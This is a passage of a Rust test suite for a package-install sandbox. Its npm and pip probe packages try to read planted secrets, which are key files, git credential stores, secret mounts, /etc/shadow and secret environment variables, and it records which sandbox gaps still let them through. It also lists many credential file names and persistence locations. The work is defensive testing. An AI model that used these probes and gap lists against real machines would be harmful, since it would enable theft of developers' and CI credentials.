//! Helper `eyes16`: round 16 of the fresh-eyes attack (issue 9), at
//! 2fe7e4e. Each test is one attempt with an inert fixture; markers stay in
//! the test's HOME; no network but the loopback registry the test starts.
//! A test marked `ignore = "round 16: …"` fails on the binary it was
//! written against.

use crate::support;

use serde_json::Value;
use std::fs;
use std::path::Path;
use support::*;

/// `npm install` of `manifest` in `project` from `registry`, with `vars`
/// set for pkgwarden: the report and `probe`'s `result.json` (Null when it
/// did not run).
fn npm_install_with(
    env: &ShimEnv,
    registry: &NpmRegistry,
    mode: &str,
    project: &Path,
    manifest: &Value,
    probe: &str,
    vars: &[(&str, String)],
) -> (support::installs::Installed, Value) {
    let _ = fs::remove_dir_all(project.join("node_modules"));
    let _ = fs::remove_file(project.join("package-lock.json"));
    fs::write(project.join("package.json"), manifest.to_string()).unwrap();
    let url = registry.registry_url();
    let r = support::installs::install(
        env,
        mode,
        &["npm", "install", "--registry", &url],
        project,
        vars,
    );
    let result = fs::read(project.join("node_modules").join(probe).join("result.json"))
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap_or(Value::Null);
    (r, result)
}

/// A probe body: `t(<rel>)` reads `<root>/<rel>` and wants `marker` in it,
/// for each of `rels`; `root` is a JS expression.
fn reads_body(root: &str, rels: &[&str], marker: &str) -> String {
    format!(
        r#"
const root = {root};
for (const f of {rels:?}) {{
  t(f, () => {{ if (!fs.readFileSync(path.resolve(root, f), "utf8").includes("{marker}")) throw new Error("other"); }});
}}
"#
    )
}

/// A project's secret files of conventional names that
/// `policy/secrets.toml` `[project]` misses (each is in its tool's
/// `.gitignore` template or documented as "never commit").
const MISSED_PROJECT_FILES: &[&str] = &[
    // google-github-actions/auth writes the service account key (or the
    // workload identity config carrying the job's OIDC request token) into
    // the workspace, under this name, for every later step.
    "gha-creds-3f2a9c1b7d5e4a60.json",
    // Azure Functions' local settings: connection strings, AccountKey.
    "local.settings.json",
    // An App Store Connect API private key (`AuthKey_<KEYID>.p8`).
    "AuthKey_EYES16ABCD.p8",
    // Ansible vault's password file.
    ".vault_pass",
    // Composer's project auth.json (tokens for private repositories).
    "auth.json",
    // Firebase Admin SDK's service account key, as its docs name it.
    "serviceAccountKey.json",
    // Google OAuth client secrets, as the console downloads them.
    "client_secret_1234-abcd.apps.googleusercontent.com.json",
    // nektos/act's secrets file.
    ".secrets",
    // sentry-cli's project configuration (`[auth] token=`).
    ".sentryclirc",
    // An OpenVPN profile with its key inline.
    "deploy/ci.ovpn",
    // PuTTY's private key.
    "deploy/deploy.ppk",
    // Basic-auth hashes.
    ".htpasswd",
    // Docker compose's documented file secret (`secrets: db_password:
    // file: ./secrets/db_password.txt`).
    "secrets/db_password.txt",
    // The kubeconfig terraform-aws-eks writes into the working directory.
    "kubeconfig_prod-eks",
    // A Terraform state by another name than `terraform.tfstate`.
    "prod.tfstate",
];

/// Class 1 (credentials read by package code), the brief's "a name the
/// list misses": an npm dependency's postinstall reads each of
/// [`MISSED_PROJECT_FILES`] from the project root, in block. Control: the
/// project's `.env` is refused.
#[test]
fn project_secret_files_the_list_misses_are_hidden() {
    use support::probes::{deps, probe};
    let mut rels: Vec<&str> = MISSED_PROJECT_FILES.to_vec();
    rels.push(".env");
    let body = reads_body(
        "path.resolve(process.cwd(), \"..\", \"..\")",
        &rels,
        "EYES16-PROJ",
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-projnames", &body)]);
    let env = ShimEnv::new(&[]);
    let project = env.home.subdir("proj");
    for r in &rels {
        let f = project.join(r);
        fs::create_dir_all(f.parent().unwrap()).unwrap();
        fs::write(&f, "secret = EYES16-PROJ\n").unwrap();
    }
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "block",
        &project,
        &deps(&["pw-projnames"]),
        "pw-projnames",
        &[],
    );
    assert!(!result.is_null(), "pw-projnames did not run\n{}", r.stderr);
    assert_ne!(result[".env"], "ok", "the control was read");
    let read: Vec<&str> = MISSED_PROJECT_FILES
        .iter()
        .copied()
        .filter(|f| result[*f] == "ok")
        .collect();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(read.is_empty(), "read {read:?}; serious findings {said:?}");
}

/// Class 1, the brief's "a symlinked dir": the release layout of
/// Capistrano, Deployer and their kin. Each release directory links the
/// shared secret files (`linked_files`: `.env`, `config/master.key`) and
/// directories to `<app>/shared/`, and the dependency install runs in the
/// release after the links are made. `env_files` finds `.env` (a link is
/// not a directory), but the landlock grants attach to inodes: the link's
/// target in `shared/` is granted where it lies. A linked directory
/// (`config/credentials -> shared/config/credentials`) is not entered at
/// all. An npm dependency's postinstall reads them through the release's
/// names, in protect and block. Control: a plain `.env.local` in the
/// release is refused.
#[test]
fn linked_secret_files_are_hidden_where_they_point() {
    use support::probes::{deps, probe};
    let rels = [
        ".env",
        "config/master.key",
        "config/credentials/production.key",
        ".env.local",
    ];
    let body = reads_body(
        "path.resolve(process.cwd(), \"..\", \"..\")",
        &rels,
        "EYES16-LINK",
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-linked", &body)]);
    let mut failed = Vec::new();
    for mode in ["protect", "block"] {
        let env = ShimEnv::new(&[]);
        let shared = env.home.subdir("app/shared");
        let release = env.home.subdir("app/releases/20261208040000");
        for f in [
            ".env",
            "config/master.key",
            "config/credentials/production.key",
        ] {
            let p = shared.join(f);
            fs::create_dir_all(p.parent().unwrap()).unwrap();
            fs::write(&p, "SECRET_KEY_BASE=EYES16-LINK\n").unwrap();
        }
        fs::create_dir_all(release.join("config")).unwrap();
        std::os::unix::fs::symlink(shared.join(".env"), release.join(".env")).unwrap();
        std::os::unix::fs::symlink(
            shared.join("config/master.key"),
            release.join("config/master.key"),
        )
        .unwrap();
        std::os::unix::fs::symlink(
            shared.join("config/credentials"),
            release.join("config/credentials"),
        )
        .unwrap();
        fs::write(release.join(".env.local"), "X=EYES16-LINK\n").unwrap();
        let (r, result) = npm_install_with(
            &env,
            &registry,
            mode,
            &release,
            &deps(&["pw-linked"]),
            "pw-linked",
            &[],
        );
        assert!(
            !result.is_null(),
            "{mode}: pw-linked did not run\n{}",
            r.stderr
        );
        assert_ne!(result[".env.local"], "ok", "{mode}: the control was read");
        let read: Vec<&str> = rels[..3]
            .iter()
            .copied()
            .filter(|f| result[*f] == "ok")
            .collect();
        if !read.is_empty() {
            let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
            failed.push(format!("{mode}: read {read:?}; serious findings {said:?}"));
        }
    }
    assert!(failed.is_empty(), "{failed:#?}");
}

/// Variables whose value names a key or token file, set by the tools
/// that made the file (CI auth actions, workload identity webhooks), and
/// the file each names below the test's HOME. `moved` lists none of them.
const KEY_FILE_VARS: &[(&str, &str)] = &[
    // google-github-actions/auth and every Google client library.
    ("GOOGLE_APPLICATION_CREDENTIALS", "keys/gcp-sa.json"),
    (
        "CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE",
        "keys/gcloud-cred.json",
    ),
    ("GOOGLE_GHA_CREDS_PATH", "keys/gha-creds.json"),
    // EKS's IAM roles for service accounts, Azure's workload identity.
    ("AWS_WEB_IDENTITY_TOKEN_FILE", "keys/aws-web-identity-token"),
    ("AZURE_FEDERATED_TOKEN_FILE", "keys/azure-identity-token"),
    // The Docker daemon's TLS client key (`$DOCKER_CERT_PATH/key.pem`).
    ("DOCKER_CERT_PATH", "keys/docker"),
    // Ansible vault's password file; podman's, buildah's and skopeo's
    // registry logins (the moved `~/.config/containers/auth.json`);
    // Terraform's kubernetes and helm providers' kubeconfig; libpq's and
    // etcdctl's client keys; Consul's token file.
    ("ANSIBLE_VAULT_PASSWORD_FILE", "keys/vault-pass"),
    ("REGISTRY_AUTH_FILE", "keys/containers-auth.json"),
    ("KUBE_CONFIG_PATH", "keys/tf-kubeconfig"),
    ("PGSSLKEY", "keys/pg-client.key"),
    ("ETCDCTL_KEY", "keys/etcd-client.key"),
    ("CONSUL_HTTP_TOKEN_FILE", "keys/consul-token"),
];

/// Class 1, the brief's "other config-named stores": each variable of
/// [`KEY_FILE_VARS`] is set for pkgwarden and names a file (for
/// `DOCKER_CERT_PATH`, the directory of `key.pem`) outside every hidden
/// store; `GIT_SSH_COMMAND` names a deploy key with `-i`. An npm
/// dependency's postinstall reads each, in protect and block. The
/// variables themselves are removed (names of secret shapes or `AWS_`),
/// the files stay. Control: `~/.ssh/id_ed25519` is refused.
#[test]
#[ignore = "round 16: key files named by GOOGLE_APPLICATION_CREDENTIALS, AWS_WEB_IDENTITY_TOKEN_FILE, AZURE_FEDERATED_TOKEN_FILE, DOCKER_CERT_PATH, GIT_SSH_COMMAND -i are read by package code, protect and block"]
fn files_variables_name_as_keys_are_hidden() {
    use support::probes::{deps, probe};
    let mut rels: Vec<String> = KEY_FILE_VARS
        .iter()
        .map(|(v, f)| match *v {
            "DOCKER_CERT_PATH" => format!("{f}/key.pem"),
            _ => f.to_string(),
        })
        .collect();
    rels.push("keys/deploy_key".into());
    rels.push(".ssh/id_ed25519".into());
    let refs: Vec<&str> = rels.iter().map(String::as_str).collect();
    let body = reads_body("home", &refs, "EYES16-KEY");
    let registry = NpmRegistry::start_with(vec![probe("pw-keyvars", &body)]);
    let mut failed = Vec::new();
    for mode in ["protect", "block"] {
        let env = ShimEnv::new(&[]);
        let home = env.home.path().to_path_buf();
        for rel in &rels {
            let p = home.join(rel);
            fs::create_dir_all(p.parent().unwrap()).unwrap();
            fs::write(&p, "-----BEGIN PRIVATE KEY-----\nEYES16-KEY\n").unwrap();
        }
        let mut vars: Vec<(&str, String)> = KEY_FILE_VARS
            .iter()
            .map(|(v, f)| (*v, home.join(f).display().to_string()))
            .collect();
        vars.push((
            "GIT_SSH_COMMAND",
            format!(
                "ssh -i {} -o IdentitiesOnly=yes",
                home.join("keys/deploy_key").display()
            ),
        ));
        let project = env.home.subdir("proj");
        let (r, result) = npm_install_with(
            &env,
            &registry,
            mode,
            &project,
            &deps(&["pw-keyvars"]),
            "pw-keyvars",
            &vars,
        );
        assert!(
            !result.is_null(),
            "{mode}: pw-keyvars did not run\n{}",
            r.stderr
        );
        assert_ne!(
            result[".ssh/id_ed25519"], "ok",
            "{mode}: the control was read"
        );
        let read: Vec<&str> = refs[..refs.len() - 1]
            .iter()
            .copied()
            .filter(|f| result[*f] == "ok")
            .collect();
        if !read.is_empty() {
            let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
            failed.push(format!("{mode}: read {read:?}; serious findings {said:?}"));
        }
    }
    assert!(failed.is_empty(), "{failed:#?}");
}

/// Git configuration files `config_named_stores` does not read, each
/// naming a `store --file` (the configuration, its text, the store).
const GIT_CONFIGS: &[(&str, &str, &str)] = &[
    // `include.path` (dotfile managers split credentials this way).
    (
        ".gitconfig",
        "[include]\n\tpath = ~/.config/git/local.inc\n",
        "",
    ),
    (
        ".config/git/local.inc",
        "[credential]\n\thelper = store --file ~/.local/share/git-inc/creds\n",
        ".local/share/git-inc/creds",
    ),
    // The XDG file when `XDG_CONFIG_HOME` moves it (set below).
    (
        "xdg/git/config",
        "[credential]\n\thelper = store --file ~/.local/share/git-xdg/creds\n",
        ".local/share/git-xdg/creds",
    ),
    // git runs a helper through the shell: `$HOME` is expanded.
    (
        ".gitconfig",
        "[credential \"http://127.0.0.1\"]\n\thelper = store --file $HOME/.local/share/git-env/creds\n",
        ".local/share/git-env/creds",
    ),
];

/// Class 1, the brief's "include/includeIf in gitconfig,
/// `$XDG_CONFIG_HOME/git/config`, `~`/`$HOME`": each store of
/// [`GIT_CONFIGS`] is one git would use (`git credential fill` returns
/// its password; checked below), and an npm dependency's postinstall
/// reads it, in protect and block. Control: a `store --file ~/…` in
/// `~/.gitconfig` itself is refused.
#[test]
#[ignore = "round 16: git credential stores named through include.path, $XDG_CONFIG_HOME/git/config or $HOME in the helper are read by package code, protect and block"]
fn stores_gits_other_configuration_names_are_hidden() {
    use support::probes::{deps, probe};
    let mut stores: Vec<&str> = GIT_CONFIGS
        .iter()
        .map(|(_, _, s)| *s)
        .filter(|s| !s.is_empty())
        .collect();
    stores.push(".local/share/git-control/creds");
    let body = reads_body("home", &stores, "EYES16-GIT");
    let registry = NpmRegistry::start_with(vec![probe("pw-gitinc", &body)]);
    let mut failed = Vec::new();
    for mode in ["protect", "block"] {
        let env = ShimEnv::new(&[]);
        let home = env.home.path().to_path_buf();
        for (cfg, text, _) in GIT_CONFIGS {
            let c = home.join(cfg);
            fs::create_dir_all(c.parent().unwrap()).unwrap();
            let mut old = fs::read_to_string(&c).unwrap_or_default();
            old.push_str(text);
            fs::write(&c, old).unwrap();
        }
        let gc = home.join(".gitconfig");
        let mut old = fs::read_to_string(&gc).unwrap();
        old.push_str("[credential]\n\thelper = store --file ~/.local/share/git-control/creds\n");
        fs::write(&gc, old).unwrap();
        for s in &stores {
            let p = home.join(s);
            fs::create_dir_all(p.parent().unwrap()).unwrap();
            let tag = s.split('/').nth(2).unwrap_or("x");
            fs::write(&p, format!("http://eyes16:EYES16-GIT-{tag}@127.0.0.1\n")).unwrap();
        }
        let xdg = home.join("xdg").display().to_string();
        if mode == "protect" {
            // git itself takes each password (so these are real stores, not
            // guesses): the XDG file's helper comes first when it is moved,
            // the include's otherwise; the `$HOME` one alone.
            let env_helper = "store --file $HOME/.local/share/git-env/creds";
            let checks: [(&[&str], Option<&String>, &str); 3] = [
                (&[], None, "git-inc"),
                (&[], Some(&xdg), "git-xdg"),
                (
                    &[
                        "-c",
                        "credential.helper=",
                        "-c",
                        &format!("credential.helper={env_helper}"),
                    ],
                    None,
                    "git-env",
                ),
            ];
            for (args, var, want) in checks {
                let mut cmd = std::process::Command::new("git");
                cmd.args(args)
                    .args(["credential", "fill"])
                    .env("HOME", &home)
                    .env_remove("XDG_CONFIG_HOME")
                    .env_remove("GIT_CONFIG_GLOBAL")
                    .env("GIT_CONFIG_NOSYSTEM", "1")
                    .env("GIT_TERMINAL_PROMPT", "0")
                    .stdin(std::process::Stdio::piped())
                    .stdout(std::process::Stdio::piped());
                if let Some(x) = var {
                    cmd.env("XDG_CONFIG_HOME", x);
                }
                let mut child = cmd.spawn().unwrap();
                use std::io::Write as _;
                child
                    .stdin
                    .take()
                    .unwrap()
                    .write_all(b"protocol=http\nhost=127.0.0.1\n\n")
                    .unwrap();
                let out = child.wait_with_output().unwrap();
                let text = String::from_utf8_lossy(&out.stdout);
                assert!(
                    text.contains(&format!("password=EYES16-GIT-{want}")),
                    "git did not use the {want} store: {text:?}"
                );
            }
        }
        let project = env.home.subdir("proj");
        let (r, result) = npm_install_with(
            &env,
            &registry,
            mode,
            &project,
            &deps(&["pw-gitinc"]),
            "pw-gitinc",
            &[("XDG_CONFIG_HOME", xdg.clone())],
        );
        assert!(
            !result.is_null(),
            "{mode}: pw-gitinc did not run\n{}",
            r.stderr
        );
        assert_ne!(
            result[".local/share/git-control/creds"], "ok",
            "{mode}: the control was read"
        );
        let read: Vec<&str> = stores[..stores.len() - 1]
            .iter()
            .copied()
            .filter(|f| result[*f] == "ok")
            .collect();
        if !read.is_empty() {
            let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
            failed.push(format!("{mode}: read {read:?}; serious findings {said:?}"));
        }
    }
    assert!(failed.is_empty(), "{failed:#?}");
}

/// An sdist's setup.py that reads the file `{conf}` and `~/.pypirc` (the
/// control) and prints what it found on lines tagged `EYES16-PIPCONF`.
const PIPCONF_SETUP: &str = r#"import os, sys
from setuptools import setup
for p in ["{conf}", os.path.expanduser("~/.pypirc")]:
    try:
        with open(p) as f:
            text = f.read()
        print("EYES16-PIPCONF read %s %s" % (p, " ".join(text.split())), file=sys.stderr, flush=True)
    except OSError as e:
        print("EYES16-PIPCONF refused %s %d" % (p, e.errno), file=sys.stderr, flush=True)
setup(name="pwconf", version="1.0.0", packages=["pwconf"])
"#;

/// Class 1, the brief's "other config-named stores", for pip: `pip config
/// --site set global.index-url …` writes the virtualenv's own `pip.conf`
/// (`<venv>/pip.conf`), the documented per-environment configuration and
/// where a private index's password is kept for that environment. pip
/// reads it (the plan lists it among its configuration files) but it is no
/// `home_readable` store: the build backend's setup.py (package code, the
/// nested domain) reads the password, in block. Control: `~/.pypirc` is
/// refused.
#[test]
#[ignore = "round 16: the virtualenv's own pip.conf (pip config --site: the private index URL with its password) is read by an sdist's setup.py in block"]
fn a_venvs_pip_conf_is_hidden_from_package_code() {
    let venv_home = TestHome::new();
    let venv = venv(&venv_home);
    let conf = venv.join("pip.conf");
    let setup = PIPCONF_SETUP.replace("{conf}", &conf.display().to_string());
    let index = support::pypi::sdist_index("pwconf", &setup);
    let url = index
        .index_url()
        .replace("http://", "http://eyes16:EYES16-PIPCONF-SECRET@");
    fs::write(&conf, format!("[global]\nindex-url = {url}\n")).unwrap();
    let env = ShimEnv::new(&[&venv.join("bin")]);
    fs::write(
        env.home.path().join(".pypirc"),
        "[pypi]\npassword = EYES16-PYPIRC\n",
    )
    .unwrap();
    let r = support::installs::install(
        &env,
        "block",
        &["pip", "install", "-v", "--use-pep517", "pwconf"],
        env.home.path(),
        &[],
    );
    let lines: Vec<&str> = r
        .stderr
        .lines()
        .chain(r.stdout.lines())
        .filter(|l| l.contains("EYES16-PIPCONF "))
        .collect();
    assert!(
        !lines.is_empty(),
        "setup.py did not run (exit {})\n{}\n{}",
        r.code,
        r.stdout,
        r.stderr
    );
    assert!(
        !lines.iter().any(|l| l.contains("EYES16-PYPIRC")),
        "the control was read: {lines:?}"
    );
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(
        !lines.iter().any(|l| l.contains("EYES16-PIPCONF-SECRET")),
        "setup.py read the venv's pip.conf: {lines:?}; exit {}; serious findings {said:?}",
        r.code
    );
}

/// A dependency whose postinstall leaves `~/eyes16-ran/<$PW_CMD>`.
fn marking(name: &str) -> NpmPackage {
    NpmPackage::new(
        serde_json::json!({
            "name": name, "version": "1.0.0", "license": "MIT",
            "scripts": {"postinstall": "node mark.js"}
        }),
        &[(
            "mark.js",
            b"const fs = require('fs'), path = require('path');\nconst d = path.join(process.env.HOME, 'eyes16-ran');\ntry {\n  fs.mkdirSync(d, {recursive: true});\n  fs.writeFileSync(path.join(d, process.env.PW_CMD || 'unknown'), 'ran\\n');\n} catch (e) {}\n",
        )],
    )
}

/// Issue 9 focus: the shim, by the managers' other command names. yarn's
/// package declares two bins, `yarn` and `yarnpkg` (the same
/// `bin/yarn.js`; Debian's and Ubuntu's `yarnpkg` package installs only
/// `/usr/bin/yarnpkg`, as `yarn` is another program there); Bundler's gem
/// installs `bundle` and `bundler` (the same CLI; Debian's `ruby-bundler`
/// ships both). `pkgwarden shims install` makes neither `yarnpkg` nor
/// `bundler`, so `yarnpkg install` runs the real yarn with no sandbox in
/// block: the dependency's postinstall ran, no report. Control: `yarn
/// install` through its shim is monitored.
#[test]
fn every_name_a_manager_installs_as_is_shimmed() {
    let registry = NpmRegistry::start_with(vec![marking("pw-mark16")]);
    let env = ShimEnv::new(&[]);
    let url = registry.registry_url();
    let cache = env.home.path().join(".cache/yarn");
    let mut ran = Vec::new();
    for name in ["yarn", "yarnpkg"] {
        let project = env.home.subdir(name);
        fs::write(
            project.join("package.json"),
            support::probes::deps(&["pw-mark16"]).to_string(),
        )
        .unwrap();
        fs::write(
            project.join(".yarnrc"),
            format!("registry \"{url}\"\ncache-folder \"{}\"\n", cache.display()),
        )
        .unwrap();
        fs::write(
            env.home.path().join("etc-pkgwarden-policy.toml"),
            "mode = \"block\"\n",
        )
        .unwrap();
        let before = env.report_files();
        let program = which::which_in(name, Some(&env.path), &project).unwrap();
        let mut cmd = env.bare(&program);
        std::os::unix::process::CommandExt::arg0(&mut cmd, name);
        cmd.args(["install", "--non-interactive"])
            .current_dir(&project)
            .env("PW_CMD", name);
        let out = run(&mut cmd);
        let reports = env.report_files().len() - before.len();
        let marker = env.home.path().join("eyes16-ran").join(name);
        if name == "yarn" {
            assert!(
                reports > 0,
                "the control left no report\n{}",
                stderr_str(&out)
            );
            continue;
        }
        if marker.exists() && reports == 0 {
            ran.push(format!(
                "{name} install ({}): pw-mark16's postinstall ran, no report (exit {:?})",
                program.display(),
                out.status.code()
            ));
        }
    }
    let missing: Vec<&str> = ["yarnpkg", "bundler"]
        .into_iter()
        .filter(|n| !env.shims.join(n).exists())
        .collect();
    assert!(
        ran.is_empty() && missing.is_empty(),
        "{ran:#?}; no shim for {missing:?}"
    );
}

/// Secret variables of shapes the lists still miss (name, value); every
/// value carries `EYES16-ENV`.
const MISSED_VARS: &[(&str, &str)] = &[
    // Gradle's signing plugin's in-memory key (`useInMemoryPgpKeys`), and
    // gradle-maven-publish-plugin's: an armored PGP private key, whose
    // armor line is `PRIVATE KEY BLOCK-----`, and names without `_KEY`.
    (
        "ORG_GRADLE_PROJECT_signingKey",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nEYES16-ENV-gradle\n-----END PGP PRIVATE KEY BLOCK-----\n",
    ),
    (
        "ORG_GRADLE_PROJECT_signingInMemoryKey",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nEYES16-ENV-vanniktech\n-----END PGP PRIVATE KEY BLOCK-----\n",
    ),
    // fastlane match's git login (base64 of `user:token`).
    (
        "MATCH_GIT_BASIC_AUTHORIZATION",
        "RVlFUzE2LUVOVi1tYXRjaDp0b2tlbg==",
    ),
    // A kubeconfig in base64 (kubectl actions' documented variable).
    (
        "KUBE_CONFIG_DATA",
        "YXBpVmVyc2lvbjogdjEKdXNlcnM6Ci0gdXNlcjoKICAgIHRva2VuOiBFWUVTMTYK",
    ),
    // A whole `.env` kept as one CI secret and written out by a step.
    (
        "ENV_FILE",
        "NODE_ENV=production\nSTRIPE_SECRET_KEY=sk_live_EYES16-ENV-dotenv\nDB_PASSWORD=EYES16-ENV-db\n",
    ),
    // The same PGP key under a neutral name.
    (
        "RELEASE_GPG",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nEYES16-ENV-pgp\n-----END PGP PRIVATE KEY BLOCK-----\n",
    ),
];

/// Class 7 (secret variables), the brief's "name/value lists": each of
/// [`MISSED_VARS`], set for pkgwarden, reaches an npm dependency's
/// postinstall's environment in block. Control: `GITHUB_TOKEN` is removed.
#[test]
fn secret_variables_round_15_missed_are_removed() {
    use support::probes::{deps, probe};
    let mut names: Vec<&str> = MISSED_VARS.iter().map(|(k, _)| *k).collect();
    names.push("GITHUB_TOKEN");
    let body = format!(
        r#"
for (const k of {names:?}) {{
  t(k, () => {{ const v = process.env[k] || ""; if (!(v.includes("EYES16-ENV") || v.startsWith("RVlFUzE2") || v.startsWith("YXBpVmVy"))) throw new Error("absent"); }});
}}
"#
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-env16", &body)]);
    let mut vars: Vec<(&str, String)> = MISSED_VARS
        .iter()
        .map(|(k, v)| (*k, v.to_string()))
        .collect();
    vars.push(("GITHUB_TOKEN", "EYES16-ENV-control".into()));
    let env = ShimEnv::new(&[]);
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "block",
        &project,
        &deps(&["pw-env16"]),
        "pw-env16",
        &vars,
    );
    assert!(!result.is_null(), "pw-env16 did not run\n{}", r.stderr);
    assert_ne!(
        result["GITHUB_TOKEN"], "ok",
        "the control reached the script"
    );
    let seen: Vec<&str> = names
        .iter()
        .copied()
        .filter(|k| result[*k] == "ok")
        .collect();
    assert!(
        seen.is_empty(),
        "in a dependency script's environment: {seen:?}; exit {}; findings {}",
        r.code,
        r.report["findings"]
    );
}

/// Removes the paths it holds when dropped.
struct Cleanup(Vec<std::path::PathBuf>);

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = fs::remove_dir_all(p);
            let _ = fs::remove_file(p);
        }
    }
}

/// Class 1, as root (a container build, `sudo pkgwarden …`): secrets
/// outside HOME that no list names. BuildKit mounts a build secret
/// (`RUN --mount=type=secret,id=npmrc npm ci`, the documented way to give
/// an install its token) at `/run/secrets/<id>`, as Docker's and compose's
/// `secrets:` do; Kubernetes mounts a pod's service account token at
/// `/var/run/secrets/kubernetes.io/serviceaccount/token` (CI runners on
/// Kubernetes). As root, other users' homes are readable too (`sudo npm
/// install -g` with HOME=/root: `/home/<user>/.ssh`). `system_hidden`
/// names only `/etc/shadow`, `/etc/gshadow`, `/etc/sudoers`. Made for the
/// test (and removed): `/run/secrets/eyes16-<pid>`,
/// `/run/secrets/eyes16-<pid>-sa/token`, `/home/eyes16-<pid>/.ssh/id_ed25519`.
/// An npm dependency's postinstall reads them, in block. Control:
/// `/etc/shadow` is refused. Skipped when not root.
#[test]
#[ignore = "round 16: as root, /run/secrets/<id> (BuildKit secret mounts, the pod's service account token) and other users' ~/.ssh are read by package code in block"]
fn secrets_outside_home_are_hidden_as_root() {
    use support::probes::{deps, probe};
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: needs root");
        return;
    }
    let pid = std::process::id();
    let files = [
        format!("/run/secrets/eyes16-{pid}"),
        format!("/run/secrets/eyes16-{pid}-sa/token"),
        format!("/home/eyes16-{pid}/.ssh/id_ed25519"),
    ];
    let made_run = !Path::new("/run/secrets").exists();
    let mut cleanup = vec![
        std::path::PathBuf::from(&files[0]),
        std::path::PathBuf::from(format!("/run/secrets/eyes16-{pid}-sa")),
        std::path::PathBuf::from(format!("/home/eyes16-{pid}")),
    ];
    if made_run {
        cleanup.push("/run/secrets".into());
    }
    let _cleanup = Cleanup(cleanup);
    for f in &files {
        let p = Path::new(f);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, "EYES16-SYS\n").unwrap();
    }
    let mut rels: Vec<&str> = files.iter().map(String::as_str).collect();
    rels.push("/etc/shadow");
    let body = format!(
        r#"
for (const f of {rels:?}) {{
  t(f, () => {{ const s = fs.readFileSync(f, "utf8"); if (f !== "/etc/shadow" && !s.includes("EYES16-SYS")) throw new Error("other"); }});
}}
"#
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-sysread", &body)]);
    let env = ShimEnv::new(&[]);
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "block",
        &project,
        &deps(&["pw-sysread"]),
        "pw-sysread",
        &[],
    );
    assert!(!result.is_null(), "pw-sysread did not run\n{}", r.stderr);
    assert_ne!(result["/etc/shadow"], "ok", "the control was read");
    let read: Vec<&str> = files
        .iter()
        .map(String::as_str)
        .filter(|f| result[*f] == "ok")
        .collect();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(
        read.is_empty(),
        "read {read:?}; exit {}; serious findings {said:?}",
        r.code
    );
}

/// Class 1, the brief's "entry-count exhaustion": `env_files` stops after
/// 10,000 directory entries, depth first, in `read_dir` order. A monorepo
/// whose one app has a build cache of 10,001 files (`.next/cache`, a
/// `dist/`, `.yarn/cache`, PHP's `vendor/`: none is skipped) hides the
/// other app's `.env` from the search when the cache's app comes first
/// (the test puts the cache in whichever of `apps/web` and `apps/api` the
/// search enters first). A dependency's postinstall reads
/// `apps/<other>/.env`, in block. Control: the root's `.env` is refused.
#[test]
fn a_big_build_cache_does_not_unhide_the_projects_secrets() {
    use support::probes::{deps, probe};
    let env = ShimEnv::new(&[]);
    let project = env.home.subdir("proj");
    let apps = project.join("apps");
    for a in ["web", "api"] {
        fs::create_dir_all(apps.join(a)).unwrap();
    }
    // The search pops the directory it pushed last: the last of read_dir.
    let order: Vec<String> = fs::read_dir(&apps)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    let (first, other) = (order[1].clone(), order[0].clone());
    let cache = apps.join(&first).join(".next/cache/webpack");
    fs::create_dir_all(&cache).unwrap();
    for i in 0..10_001 {
        fs::write(cache.join(format!("{i}.pack")), "").unwrap();
    }
    let secret = format!("apps/{other}/.env");
    fs::write(project.join(&secret), "STRIPE_SECRET_KEY=EYES16-BUDGET\n").unwrap();
    fs::write(project.join(".env"), "X=EYES16-BUDGET\n").unwrap();
    let body = reads_body(
        "path.resolve(process.cwd(), \"..\", \"..\")",
        &[&secret, ".env"],
        "EYES16-BUDGET",
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-budget", &body)]);
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "block",
        &project,
        &deps(&["pw-budget"]),
        "pw-budget",
        &[],
    );
    assert!(!result.is_null(), "pw-budget did not run\n{}", r.stderr);
    assert_ne!(result[".env"], "ok", "the control was read");
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert_ne!(
        result[secret.as_str()],
        "ok",
        "{secret} read; exit {}; serious findings {said:?}",
        r.code
    );
}

/// Places under HOME whose files another program runs later (relative
/// path; made before the install, as the user has them): executables in
/// PATH directories that toolchains put ahead of `/usr/bin` (rustup's
/// `~/.cargo/env`, bun's, deno's, pnpm's `PNPM_HOME`, Volta's: a new
/// `sudo` or `git` there runs instead of the real one; held while they
/// are on the PATH pkgwarden sees, as the test sets it), Docker's CLI
/// plugins (`docker compose` runs `~/.docker/cli-plugins/docker-compose`
/// first), Gradle's init scripts (every build), Go's `go env -w` file
/// (`GOFLAGS=-toolexec=…`: every compile), sbt's global settings, Neovim's
/// and Vim's runtime files beyond `init.*` and `plugin/` (LazyVim's
/// `lua/config/*.lua`, `after/plugin`, a Vim package's `start/`), window
/// managers' configurations (`exec` lines run at login: i3, sway,
/// Hyprland), KDE Plasma's login scripts, `~/.xsession`, zsh's files
/// under a `ZDOTDIR`, the user site's `.pth` and `usercustomize.py`, curl's
/// and wget's configuration, bun's global `bunfig.toml`.
const LATER_RUN: &[&str] = &[
    ".cargo/bin/sudo",
    ".bun/bin/ssh",
    ".deno/bin/docker",
    ".local/share/pnpm/sudo",
